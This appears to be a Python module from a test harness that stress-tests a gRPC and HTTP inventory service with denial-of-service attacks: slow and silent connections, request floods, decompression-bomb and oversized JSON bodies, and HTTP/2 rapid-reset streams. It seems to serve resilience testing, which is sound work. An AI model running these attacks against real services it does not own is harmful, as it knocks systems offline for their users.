"""The attacks: each goes on in a process of its own until it is to stop."""

from __future__ import annotations

import gzip
import http.client
import json
import socket
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from functools import partial
from typing import Any, Protocol, TypeAlias

import grpc
from google.protobuf.message import Message
from harness.callers import OWN_CONNECTION, SERVICE, Request
from harness.h2load import h2load
from harness.threads import in_threads

from attacking.frames import RawConnection, call_headers
from inventory_job.stubs.spaceone.api.core.v2.query_pb2 import Filter, Query
from inventory_job.stubs.spaceone.api.inventory.v1 import job_pb2
from tests.support.silence import silent_calls

_PAUSE_SECONDS = 0.05


class Signal(Protocol):
    """What ends an attack: an Event of threads or processes."""

    def is_set(self) -> bool:
        """Whether it has come."""

    def wait(self, timeout: float) -> bool:
        """Waits for it at most so long; whether it has come."""


@dataclass(frozen=True, slots=True)
class Target:
    """Where the server is, and the attacker's metadata; those of a stranger are none."""

    address: str
    http_address: str
    metadata: tuple[tuple[str, str], ...]


Attack: TypeAlias = Callable[[Target, Signal], "dict[str, int]"]
"""Goes on until the signal; gives how often what came of it."""


def silent_streams(
    count: int, connections: int, methods: tuple[str, ...], *, is_stranger: bool
) -> Attack:
    """Calls that send their headers and nothing else."""

    def attack(target: Target, stop: Signal) -> dict[str, int]:
        metadata = () if is_stranger else target.metadata
        with ExitStack() as opened:
            for _ in range(connections):
                channel = opened.enter_context(
                    grpc.insecure_channel(target.address, OWN_CONNECTION)
                )
                share = count // connections // len(methods)
                for method in methods:
                    opened.enter_context(silent_calls(channel, method, share, metadata))
            _await(stop)
        return {"streams": count}

    return attack


def calls(method: str, request: Message, callers: int) -> Attack:
    """The same call again and again, by so many callers, each on a connection of its own."""
    content = request.SerializeToString()

    def go_on(target: Target, found: Counter[str], stop: Signal) -> None:
        with grpc.insecure_channel(target.address, OWN_CONNECTION) as channel:
            call: Any = channel.unary_unary(f"/{SERVICE}/{method}")
            while not stop.is_set():
                future = call.future(content, metadata=target.metadata, timeout=30)
                while not future.done() and not stop.is_set():
                    _ended_within(future, _PAUSE_SECONDS)
                future.cancel()
                code = future.code()
                found[code.name] += 1
                if code is not grpc.StatusCode.OK:
                    stop.wait(_PAUSE_SECONDS)

    return _in_threads(go_on, callers)


def _ended_within(future: Any, seconds: float) -> None:
    try:
        future.exception(timeout=seconds)
    except (grpc.FutureTimeoutError, grpc.FutureCancelledError):
        return


def many_conditions() -> Message:
    """A request of a million empty conditions, 2 MB."""
    one = Query(filter=[Filter()]).SerializeToString()
    # One after the other they are one message; made one by one they take a second.
    return job_pb2.JobsQuery(query=Query.FromString(one * 1_000_000))


def posts(path: str, body: Callable[[], bytes], headers: Mapping[str, str], callers: int) -> Attack:
    """The same request over HTTP again and again, by so many callers."""

    def go_on(target: Target, found: Counter[str], stop: Signal) -> None:
        content = body()
        given = {"content-type": "application/json", **dict(target.metadata), **headers}
        while not stop.is_set():
            connection = http.client.HTTPConnection(target.http_address, timeout=30)
            try:
                connection.request("POST", path, content, given)
                found[str(connection.getresponse().status)] += 1
            except OSError as error:
                found[type(error).__name__] += 1
            finally:
                connection.close()

    return _in_threads(go_on, callers)


def zipped_conditions() -> bytes:
    """3 MB of a million empty conditions, as 3 kB."""
    return gzip.compress(b'{"query":{"filter":[' + b"{}," * 999_999 + b"{}]}}", 9)


def many_names() -> bytes:
    """An object of 380 000 names, one of them twice."""
    names = [f'"{number:x}":0' for number in [*range(380_000), 0]]
    return ('{"query":{' + ",".join(names) + "}}").encode()


def unread(count: int, method: str, path: str, query: Any = None) -> Attack:
    """Requests over HTTP by so many connections, whose answers are not read."""

    def attack(target: Target, stop: Signal) -> dict[str, int]:
        host, _, port = target.http_address.rpartition(":")
        body = b"" if query is None else json.dumps({"query": query}).encode()
        head = [f"{method} {path} HTTP/1.1", f"host: {target.http_address}"]
        head += [f"{name}: {value}" for name, value in target.metadata]
        head += ["content-type: application/json", f"content-length: {len(body)}", "", ""]
        with ExitStack() as opened:
            for _ in range(count):
                connection = opened.enter_context(socket.socket())
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.settimeout(10)
                try:
                    connection.connect((host, int(port)))
                    connection.sendall("\r\n".join(head).encode() + body)
                except OSError:
                    continue
            _await(stop)
        return {"connections": count}

    return attack


def silent_connections(count: int) -> Attack:
    """Connections to both ports that send nothing."""

    def attack(target: Target, stop: Signal) -> dict[str, int]:
        opened: Counter[str] = Counter()
        with ExitStack() as connections:
            for address in (target.address, target.http_address):
                host, _, port = address.rpartition(":")
                for _ in range(count):
                    try:
                        connection = socket.create_connection((host, int(port)), timeout=1)
                    except OSError:
                        opened["refused"] += 1
                        continue
                    connections.enter_context(connection)
                    opened["opened"] += 1
                    if stop.is_set():
                        return dict(opened)
            _await(stop)
        return dict(opened)

    return attack


def resets(connections: int) -> Attack:
    """Rapid reset: streams that are opened and reset at once, without a token."""

    def go_on(target: Target, found: Counter[str], stop: Signal) -> None:
        headers = call_headers(target.address, f"/{SERVICE}/get")
        while not stop.is_set():
            with suppress(OSError), RawConnection(target.address) as connection:
                found["connections"] += 1
                while not stop.is_set():
                    connection.open_and_reset(headers, 50)
                    found["resets"] += 50

    return _in_threads(go_on, connections)


def flood(padding: int = 0) -> Attack:
    """Calls without a token, as fast as another program (h2load) makes them; with so many bytes
    of metadata. Raises RuntimeError when there is no such program."""

    def attack(target: Target, stop: Signal) -> dict[str, int]:
        metadata = [("x-pad", "x" * padding)] * (padding > 0)
        options = ("--clients=4", "--max-concurrent-streams=50", "--requests=100000000")
        with h2load(target.address, Request("get", b""), metadata, *options):
            _await(stop)
        return {}

    return attack


def _await(stop: Signal) -> None:
    while not stop.wait(1.0):
        pass


def _in_threads(go_on: Callable[[Target, Counter[str], Signal], None], count: int) -> Attack:
    """An attack by so many threads, each of which counts what came of it."""

    def attack(target: Target, stop: Signal) -> dict[str, int]:
        found: Counter[str] = Counter()
        with in_threads([partial(go_on, target, found)] * count):
            _await(stop)
        return dict(found)

    return attack
